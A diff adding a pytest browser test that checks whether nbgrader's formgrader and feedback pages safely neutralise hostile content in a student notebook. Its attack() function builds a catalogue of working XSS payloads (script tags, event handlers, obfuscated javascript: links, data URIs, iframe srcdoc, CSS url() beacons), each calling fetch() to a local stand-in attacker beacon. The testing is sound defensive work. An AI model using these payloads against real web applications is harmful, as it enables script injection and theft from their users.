@@ -1,0 +1,472 @@
+"""nbgrader's formgrader on a course of ours: a real Jupyter server, a real browser, and a student who attacks both."""
+
+import base64
+import contextlib
+import http.server
+import os
+import re
+import signal
+import socket
+import subprocess
+import sys
+import threading
+from collections.abc import Callable, Iterator
+from pathlib import Path
+
+import nbformat
+import pytest
+from nbformat.v4 import new_code_cell, new_markdown_cell
+from selenium import webdriver
+from selenium.common.exceptions import NoAlertPresentException
+from selenium.webdriver.common.by import By
+from selenium.webdriver.common.keys import Keys
+
+from grading.course.intake import Course
+from grading.course.source import ANSWER, ASSIGNMENT, MANUAL_POINTS, NOTEBOOK
+from grading.tests import corpus, courses
+from grading.tests.processes import descendants, processes, wait_until
+
+MISTAKE = next(mistake for mistake in corpus.mistakes() if mistake.name == "step_without_parentheses")
+TOKEN = "a-token-of-the-tests"
+SOLVED, WRONG, ATTACKER, NEW = "ada", "bob", "mallory", "newcomer"
+COMMENT = "The test points & the line: *which* is which?"
+BROWSER = (
+    "--headless=new",
+    "--no-sandbox",
+    "--disable-gpu",
+    "--disable-quic",
+    "--no-first-run",
+    "--disable-background-networking",
+    "--disable-component-update",
+    "--disable-sync",
+    "--window-size=1200,1000",
+)
+# Whatever the page wants from elsewhere isn't there. So the test is the same with a network and without.
+ALONE = "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"
+
+
+class Beacon:
+    """Whoever asks for anything here has run, or fetched, what the attacker wrote."""
+
+    def __init__(self) -> None:
+        self.asked: list[str] = []
+        asked = self.asked
+
+        class Handler(http.server.BaseHTTPRequestHandler):
+            def do_GET(self) -> None:
+                asked.append(self.path)
+                self.send_error(404)
+
+            def log_message(self, *words: object) -> None:
+                pass
+
+        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_port}"
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+
+@pytest.fixture(scope="module")
+def beacon() -> Iterator[Beacon]:
+    beacon = Beacon()
+    yield beacon
+    beacon.server.shutdown()
+    beacon.server.server_close()
+
+
+@pytest.fixture(scope="module")
+def course(tmp_path_factory: pytest.TempPathFactory, beacon: Beacon) -> Course:
+    """One has it right, one is wrong, one attacks: graded. And one whom nobody has graded yet."""
+    course = courses.create(tmp_path_factory.mktemp("formgrader") / "course")
+    courses.submit(course, SOLVED, courses.notebook_of(course, courses.modules()))
+    courses.submit(course, WRONG, courses.notebook_of(course, courses.modules(MISTAKE.change)))
+    courses.submit(course, ATTACKER, attack(course, beacon.url))
+    courses.kit("course", "autograde", course.root, "--jobs", 2)
+    courses.submit(course, NEW, courses.notebook_of(course, courses.modules()))
+    return course
+
+
+def attack(course: Course, beacon: str) -> str:
+    """A notebook with scripts wherever a student may write, and fields that pretend to be formgrader's."""
+    script = f"window.pwned=1;document.title=`pwned`;fetch(`{beacon}/script`)"
+    text = f"""\
+# ex1
+
+Look: <b id="ex1" class="score">mine</b> <a class="full-credit" href="#x">full-credit</a>
+<a class="mark-graded">graded</a> <textarea id="{ANSWER}-comment" class="comment">great</textarea>
+
+A <script>{script}</script> and <img src=x onerror="{script}"> in a line.
+
+<script>{script}</script>
+
+<script src="{beacon}/source"></script>
+
+<svg onload="{script}"><script>{script}</script></svg>
+
+<iframe srcdoc="<script>parent.pwned=1;parent.document.title='pwned'</script>"></iframe>
+
+<style>body {{ display: none; background: url({beacon}/style) }}</style>
+
+<div style="position: fixed; inset: 0; background: url({beacon}/styled)" onclick="{script}">all over</div>
+
+[one](javascript:{script}) [two](JaVaScript&#58;{script}) <a href="java&#115;cript:{script}">three</a>
+[four](data:text/html,<script>{script}</script>)
+
+![seen]({beacon}/picture) ![lost](attachment:lost.png) <img src="{beacon}/image">
+
+$x<script>{script}</script>$ and `<script>{script}</script>`
+
+```mermaid
+<script>{script}</script>
+```
+
+</div></div></div></body></html> <plaintext> <!-- <script>{script}</script>
+"""
+    raising = f"""
+
+# </pre><script>{script}</script>
+class Told(Exception): pass
+Told.__name__ = Told.__qualname__ = "<script>{script}</script>"
+
+
+def create_loss():  # <script>{script}</script> </code></pre></div>
+    print("</pre><script>{script}</script>")
+    raise Told("</pre></li></ul></div><script>{script}</script><img src=x onerror='{script}'>")  # <script>{script}</script>
+"""
+    change = corpus.Change("ex3_training", define=raising)
+    notebook = nbformat.reads(courses.notebook_of(course, courses.modules(change)), as_version=4)
+    assert notebook.cells[-1].metadata.nbgrader.grade_id == ANSWER
+    notebook.cells[-1].source = text
+    notebook.cells.insert(1, new_markdown_cell(text))
+    notebook.cells.insert(1, new_code_cell(f"# </pre></div><script>{script}</script>\nprint('own')"))
+    return str(nbformat.writes(notebook))
+
+
+class Server:
+    """A Jupyter server, as an instructor starts it."""
+
+    def __init__(self, url: str, pid: int, log: Path) -> None:
+        self.url, self.pid, self.log = url, pid, log
+
+
+@pytest.fixture(scope="module")
+def server(course: Course, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    """`jupyter lab` in the course's folder, that and no more."""
+    home = tmp_path_factory.mktemp("home")
+    places = ("CONFIG_DIR", "DATA_DIR", "RUNTIME_DIR", "CONFIG_PATH", "PATH")
+    environment = os.environ | {f"JUPYTER_{name}": str(home / name) for name in places} | {"HOME": str(home)}
+    port = _free_port()
+    command = [
+        Path(sys.executable).with_name("jupyter"),
+        "lab",
+        "--no-browser",
+        "--ip=127.0.0.1",
+        f"--port={port}",
+    ]
+    command += ["--ServerApp.port_retries=0", f"--IdentityProvider.token={TOKEN}", "--allow-root"]
+    log = home / "log"
+    with log.open("w") as stream:
+        started = subprocess.Popen(
+            command,
+            cwd=course.root,
+            env=environment,
+            stdin=subprocess.DEVNULL,
+            stdout=stream,
+            stderr=stream,
+            start_new_session=True,
+        )
+    try:
+        assert wait_until(lambda: _listens(port) or started.poll() is not None, 60), log.read_text()
+        assert started.poll() is None, log.read_text()
+        yield Server(f"http://127.0.0.1:{port}", started.pid, log)
+    finally:
+        started.send_signal(signal.SIGTERM)
+        with contextlib.suppress(subprocess.TimeoutExpired):
+            started.wait(timeout=20)
+        with contextlib.suppress(ProcessLookupError):
+            os.killpg(started.pid, signal.SIGKILL)
+        started.wait()
+
+
+def _free_port() -> int:
+    with socket.socket() as found:
+        found.bind(("127.0.0.1", 0))
+        return found.getsockname()[1]
+
+
+def _listens(port: int) -> bool:
+    with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=1):
+        return True
+    return False
+
+
+class Browser:
+    """What a person does with a browser. A failure says what was on the page."""
+
+    def __init__(self, driver: webdriver.Chrome, screens: Path) -> None:
+        self.driver, self.screens = driver, screens
+
+    def open(self, url: str) -> None:
+        self.driver.get(url)
+
+    def run(self, script: str, *arguments: object) -> object:
+        return self.driver.execute_script(script, *arguments)
+
+    def until(self, what: str, condition: Callable[[], object], seconds: float = 20) -> None:
+        assert wait_until(condition, seconds), f"{what}: not within {seconds} seconds.\n{self.page()}"
+
+    def page(self) -> str:
+        """What can be read there, and what the browser complained of."""
+        text = self.driver.find_element(By.TAG_NAME, "body").text
+        console = [entry["message"] for entry in self.driver.get_log("browser")]
+        return f"{self.driver.current_url} “{self.driver.title}”\n{text[:3000]}\n{console}"
+
+    def rows(self) -> list[list[str]]:
+        """The cells of formgrader's table, a list for each row."""
+        found = self.run(
+            "return [...document.querySelectorAll('#main-table tr')]"
+            ".map(row => [...row.cells].map(cell => cell.innerText.trim() || cell.dataset.search || ''))"
+        )
+        assert isinstance(found, list)
+        return found
+
+    def screen(self, name: str) -> None:
+        """The whole page as a picture."""
+        height = self.run("return document.documentElement.scrollHeight")
+        clip = {"x": 0, "y": 0, "width": 1200, "height": height, "scale": 1}
+        shot = self.driver.execute_cdp_cmd(
+            "Page.captureScreenshot", {"captureBeyondViewport": True, "clip": clip}
+        )
+        (self.screens / f"{name}.png").write_bytes(base64.b64decode(shot["data"]))
+
+
+@pytest.fixture(scope="module")
+def browser(tmp_path_factory: pytest.TempPathFactory, server: Server) -> Iterator[Browser]:
+    """Logged in."""
+    options = webdriver.ChromeOptions()
+    options.binary_location = "/usr/bin/chromium"
+    for option in (*BROWSER, ALONE, f"--user-data-dir={tmp_path_factory.mktemp('chromium')}"):
+        options.add_argument(option)
+    options.set_capability("unhandledPromptBehavior", "ignore")  # a dialog stays, for the test to see
+    options.set_capability("goog:loggingPrefs", {"browser": "ALL"})
+    driver = webdriver.Chrome(options=options, service=webdriver.ChromeService("/usr/bin/chromedriver"))
+    driver.set_page_load_timeout(60)
+    try:
+        driver.get(
+            f"{server.url}/api/status?token={TOKEN}"
+        )  # formgrader's own pages forget it: their cookie has no path
+        yield Browser(driver, tmp_path_factory.mktemp("screens"))
+    finally:
+        driver.quit()
+
+
+def test_the_list_shows_everybodys_points_and_who_is_to_be_graded(
+    course: Course, server: Server, browser: Browser
+) -> None:
+    browser.open(f"{server.url}/formgrader/manage_submissions/{ASSIGNMENT}")
+    browser.until("four students", lambda: len(browser.rows()) == 4)
+    browser.screen("manage_submissions")
+    found = {student: (status, points) for _, student, _, status, points, *_ in browser.rows()}
+    by_hand, most = "needs manual grading", 100 + 4 * MANUAL_POINTS
+    assert found == {
+        SOLVED: (by_hand, f"100 / {most}"),
+        WRONG: (by_hand, f"{courses.report(course, WRONG).score} / {most}"),
+        ATTACKER: (by_hand, f"{courses.report(course, ATTACKER).score} / {most}"),
+        NEW: ("needs autograding", ""),
+    }, browser.page()
+
+    browser.open(f"{server.url}/formgrader/gradebook/{ASSIGNMENT}/{NOTEBOOK}")
+    browser.until("three notebooks", lambda: len(browser.rows()) == 3)
+    browser.run("toggleAllNames()")
+    browser.screen("manual_grading")
+    found = {name: (points, failed) for _, name, points, _, _, _, _, failed, _ in browser.rows()}
+    assert found.keys() == {SOLVED, WRONG, ATTACKER}, browser.page()
+    assert {row[6] for row in browser.rows()} == {"needs manual grade"}, browser.page()
+    assert found[SOLVED] == (f"100 / {most}", "") and found[WRONG][1] == "tests failed", browser.page()
+
+
+def test_a_submission_shows_the_lessons_their_words_and_the_plots(
+    course: Course, server: Server, browser: Browser
+) -> None:
+    open_submission(course, server, browser, WRONG)
+    browser.screen("wrong")
+    lessons_are_shown(course, browser, WRONG)
+    words = "\n".join(word for exercise in shown(browser) for word in exercise["words"])
+    assert [word for word in MISTAKE.says if word not in words] == [], words
+    assert plots(browser) == [480] * 3, browser.page()
+
+
+def test_a_mark_and_a_comment_are_in_the_gradebook_and_on_the_page(
+    course: Course, server: Server, browser: Browser
+) -> None:
+    open_submission(course, server, browser, WRONG)
+    type_in(browser, "ex1-plot_data", "4.5")
+    type_in(browser, f"{ANSWER}-comment", COMMENT)
+    marked = (WRONG, "Grade", "ex1-plot_data", None, 4.5, None, False)
+    told = (WRONG, "Comment", ANSWER, "No response.", COMMENT)
+    browser.until("a mark", lambda: {marked, told} <= set(gradebook(course)))
+
+    open_submission(course, server, browser, WRONG)
+    assert value(browser, "ex1-plot_data") == "4.5", browser.page()
+    assert value(browser, f"{ANSWER}-comment") == COMMENT, browser.page()
+
+
+def test_nothing_of_what_an_attacker_wrote_runs_or_is_fetched_in_the_formgrader(
+    course: Course, server: Server, browser: Browser, beacon: Beacon
+) -> None:
+    open_submission(course, server, browser, ATTACKER)
+    browser.screen("attacker")
+    lessons_are_shown(course, browser, ATTACKER)
+    assert "</pre></li></ul></div><script>window.pwned" in str(shown(browser)), browser.page()
+    for name in [*courses.report(course, ATTACKER).exercises]:
+        assert browser.run("return document.querySelectorAll('#' + arguments[0]).length", name.id) == 1
+    before = gradebook(course)
+    nothing_runs(browser, beacon)
+    browser.until("all that was asked for", lambda: browser.run("return jQuery.active") == 0)
+    assert gradebook(course) == before, "a click on what a student wrote has changed a mark"
+
+
+def test_nothing_of_what_an_attacker_wrote_runs_or_is_fetched_in_the_feedback(
+    course: Course, browser: Browser, beacon: Beacon
+) -> None:
+    courses.nbgrader(course.root, "generate_feedback", ASSIGNMENT)
+    for student in (WRONG, ATTACKER):
+        browser.open((course.root / "feedback" / student / ASSIGNMENT / f"{NOTEBOOK}.html").as_uri())
+        browser.screen(f"feedback_{student}")
+        lessons_are_shown(course, browser, student)
+        nothing_runs(browser, beacon)
+    browser.driver.back()
+    text = browser.driver.find_element(By.TAG_NAME, "body").text
+    assert "The test points & the line: which is which?" in text and "4.5 / 5.0" in text, browser.page()
+
+
+def test_its_own_button_grades_and_leaves_no_process_behind(
+    course: Course, server: Server, browser: Browser
+) -> None:
+    assert descendants(server.pid) == set()
+    browser.open(f"{server.url}/formgrader/manage_submissions/{ASSIGNMENT}")
+    browser.until("four students", lambda: len(browser.rows()) == 4)
+    row = browser.driver.find_element(By.XPATH, f"//tr[td[contains(@class, 'student-id')][text()='{NEW}']]")
+    row.find_element(By.CSS_SELECTOR, ".autograde a").click()
+    graders: set[int] = set()
+
+    def ended() -> bool:
+        graders.update(descendants(server.pid))
+        return bool(browser.run("return document.querySelector('.modal-title')"))
+
+    browser.until("graded", ended, 60)
+    title = browser.driver.find_element(By.CSS_SELECTOR, ".modal-title")
+    browser.until("a title", lambda: title.text)
+    assert title.text == "Success", browser.page()
+    browser.until(
+        "its points",
+        lambda: (
+            [NEW, "needs manual grading", "100 / 120"]
+            in [[student, status, points] for _, student, _, status, points, *_ in browser.rows()]
+        ),
+    )
+    assert graders, "no process was seen: where was it graded?"
+    assert wait_until(lambda: not (graders & processes() or descendants(server.pid)), 10), (
+        f"still there: {graders & processes() | descendants(server.pid)}"
+    )
+
+
+def test_grading_again_keeps_what_was_marked_by_hand(
+    course: Course, server: Server, browser: Browser
+) -> None:
+    before = gradebook(course)
+    courses.nbgrader(course.root, "autograde", ASSIGNMENT, "--force")
+    assert gradebook(course) == courses.graded_again(before) != before
+    open_submission(course, server, browser, WRONG)
+    assert value(browser, "ex1-plot_data") == "4.5", browser.page()
+    assert value(browser, f"{ANSWER}-comment") == COMMENT, browser.page()
+    field = browser.driver.find_element(By.ID, "ex1-plot_data")
+    assert "needs_manual_grade" in field.get_attribute("class"), browser.page()
+
+
+def gradebook(course: Course) -> list[tuple[object, ...]]:
+    return courses.gradebook(f"sqlite:///{course.root}/gradebook.db")
+
+
+def open_submission(course: Course, server: Server, browser: Browser, student: str) -> None:
+    """Open it from the list, and wait until formgrader has filled in marks and comments."""
+    browser.open(f"{server.url}/formgrader/gradebook/{ASSIGNMENT}/{NOTEBOOK}")
+    find = (
+        f"return [...document.querySelectorAll('a.name-shown')].find(a => a.textContent == '{student}')?.href"
+    )
+    browser.until(student, lambda: browser.run(find))
+    browser.open(str(browser.run(find)))
+    browser.until(
+        "marks and comments",
+        lambda: browser.run("return formgrader.grades?.loaded && formgrader.comments?.loaded"),
+    )
+
+
+def type_in(browser: Browser, field: str, text: str) -> None:
+    """What was there is replaced; the field is left, which is when formgrader saves."""
+    element = browser.driver.find_element(By.ID, field)
+    browser.run("arguments[0].scrollIntoView({block: 'center'})", element)
+    element.click()
+    element.send_keys(Keys.CONTROL, "a")
+    element.send_keys(text, Keys.TAB)
+
+
+def value(browser: Browser, field: str) -> object:
+    return browser.driver.find_element(By.ID, field).get_property("value")
+
+
+def shown(browser: Browser) -> list[dict[str, list[str]]]:
+    """The lessons of each exercise, and the words below them."""
+    found = browser.run("""
+        return [...document.querySelectorAll('.output_html')].map(output => ({
+            lessons: [...output.querySelectorAll('li')].map(item => item.innerText.split('\\n')[0]),
+            words: [...output.querySelectorAll('pre')].map(words => words.textContent),
+        }))""")
+    assert isinstance(found, list)
+    return found
+
+
+def lessons_are_shown(course: Course, browser: Browser, student: str) -> None:
+    expected = [
+        [(test.status == "passed", test.title) for test in exercise.tests]
+        for exercise in courses.report(course, student).exercises
+    ]
+    lines = [exercise["lessons"] for exercise in shown(browser)]
+    found = [
+        [(line[0] == "✓", re.sub(r" \d+ / \d+.*", "", line[2:])) for line in lessons] for lessons in lines
+    ]
+    assert found == expected, browser.page()
+
+
+def plots(browser: Browser) -> object:
+    """The widths of the pictures: 0 for one that is broken."""
+    return browser.run(
+        "return [...document.querySelectorAll('.output_png img')].map(img => img.naturalWidth)"
+    )
+
+
+def nothing_runs(browser: Browser, beacon: Beacon) -> None:
+    """Not by itself, nor when somebody points at it and clicks on it."""
+    title = browser.driver.title
+    browser.run("""
+        document.addEventListener('click', event => {
+            const link = event.target.closest('a');
+            if (link && /^(https?|mailto|file):/.test(link.href)) event.preventDefault();
+        });
+        for (const element of document.querySelectorAll('.rendered_html *, .output_html *, .highlight *'))
+            for (const kind of ['mouseover', 'focus', 'mousedown', 'click'])
+                element.dispatchEvent(new MouseEvent(kind, {bubbles: true, cancelable: true}));
+    """)
+    with pytest.raises(NoAlertPresentException):
+        browser.driver.switch_to.alert.accept()
+    assert browser.run("return window.pwned") is None, browser.page()
+    assert browser.driver.title == title != "pwned", browser.page()
+    assert beacon.asked == [], browser.page()
+    strange = browser.run("""
+        return [...document.querySelectorAll('.rendered_html *, .output_html *')].filter(element =>
+            /^(script|style|iframe|svg|img|object|embed|form|input|textarea|button)$/i.test(element.tagName)
+            && !element.closest('.output_png') || element.hasAttribute('style') || element.id
+            || [...element.attributes].some(attribute => attribute.name.startsWith('on'))
+            || !/^(https?|mailto|file):$/.test(element.protocol ?? 'http:') && element.href
+        ).map(element => element.outerHTML)""")
+    assert strange == [], strange
+    assert browser.driver.find_element(By.TAG_NAME, "body").is_displayed()
